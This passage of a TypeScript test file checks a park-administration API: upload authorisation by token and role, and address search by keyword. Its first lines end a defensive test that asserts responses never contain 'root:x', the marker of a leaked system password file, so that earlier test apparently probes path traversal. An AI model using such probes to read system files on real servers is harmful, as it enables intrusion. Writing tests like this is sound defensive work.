      expect([url, [400, 404].includes(res.statusCode)]).toEqual([url, true]);
      expect(res.body).not.toContain('root:x');
    }
  });

  it('answers 401 without a token and 403 without the upload permission', async () => {
    const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#000' } })
      .png()
      .toBuffer();
    expect((await upload(IMAGE_URL, 'a.png', png, 'image/png', {})).statusCode).toBe(401);
    expect((await upload(ATTACHMENT_URL, 'a.png', png, 'image/png', {})).statusCode).toBe(401);
    await ctx.createUser('uploader0', 'Visitor@2026');
    const plain = bearer(await ctx.login('uploader0', 'Visitor@2026'));
    expect((await upload(IMAGE_URL, 'a.png', png, 'image/png', plain)).statusCode).toBe(403);
    expect((await upload(ATTACHMENT_URL, 'a.png', png, 'image/png', plain)).statusCode).toBe(403);
    expect((await ctx.app.inject({ url: '/apiv2/park/admin/address/getAddress?keyword=苏州', headers: plain })).statusCode).toBe(403);
  });

  it('lets a role that saves in an uploading area upload without the workshop upload keys; a role with nothing or only reading gets 403', async () => {
    let ip = 0;
    const role = async (code: string, keys: string[]) => {
      const [r] = await ctx.database.db.insert(roles).values({ name: code, code, dataScope: 'all' }).returning({ id: roles.id });
      const granted = keys.length ? await ctx.database.db.select({ id: resources.id }).from(resources).where(inArray(resources.resourceKey, keys)) : [];
      expect(granted).toHaveLength(keys.length);
      if (granted.length) await ctx.database.db.insert(roleResources).values(granted.map((g) => ({ roleId: r.id, resourceId: g.id })));
      await ctx.createUser(`u-${code}`, 'Uploader@2026x', [r.id]);
      return bearer(await ctx.login(`u-${code}`, 'Uploader@2026x', `10.0.8.${(ip += 1)}`));
    };
    const editor = await role('policy-editor', ['policy-admin', 'policy:query', 'policy:save']);
    const reader = await role('policy-reader', ['policy-admin', 'policy:query']);
    const nothing = await role('no-keys', []);
    const providerEditor = await role('provider-editor', ['policy-provider:query', 'policy-provider:save']);
    const docx = minimalDocx();
    const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#000' } })
      .png()
      .toBuffer();

    const attached = await upload(ATTACHMENT_URL, '申报指南.docx', docx, 'application/octet-stream', editor);
    expect(attached.statusCode).toBe(200);
    expect(attached.json().data).toMatchObject({ name: '申报指南.docx', mime: DOCX_MIME });
    expect((await ctx.app.inject(attached.json().data.url)).rawPayload.equals(docx)).toBe(true);
    // A provider's logo.
    expect((await upload(IMAGE_URL, 'logo.png', png, 'image/png', providerEditor)).statusCode).toBe(200);

    for (const [who, headers] of [
      ['nothing', nothing],
      ['reader', reader],
    ] as const) {
      expect([who, (await upload(ATTACHMENT_URL, '申报指南.docx', docx, 'application/octet-stream', headers)).statusCode]).toEqual([who, 403]);
      expect([who, (await upload(IMAGE_URL, 'logo.png', png, 'image/png', headers)).statusCode]).toEqual([who, 403]);
    }
  });

  it('searches addresses: 工业园区 finds 苏州工业园区 with its full name', async () => {
    const res = await ctx.app.inject({ url: `/apiv2/park/admin/address/getAddress?keyword=${encodeURIComponent('工业园区')}&limit=10`, headers: admin });
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({ success: true, code: 0 });
    expect(res.json().data).toContainEqual({ code: '320571', name: '苏州工业园区', fullName: '江苏省 苏州市 苏州工业园区', level: 'county' });
    expect(res.json().data.length).toBeLessThanOrEqual(10);
    const many = await ctx.app.inject({ url: `/apiv2/park/admin/address/getAddress?keyword=${encodeURIComponent('区')}`, headers: admin });
    expect(many.json().data).toHaveLength(20);
    expect((await ctx.app.inject({ url: '/apiv2/park/admin/address/getAddress?keyword=x&limit=51', headers: admin })).statusCode).toBe(400);
    expect((await ctx.app.inject({ url: '/apiv2/park/admin/address/getAddress', headers: admin })).json().data).toEqual([]);
  });
});
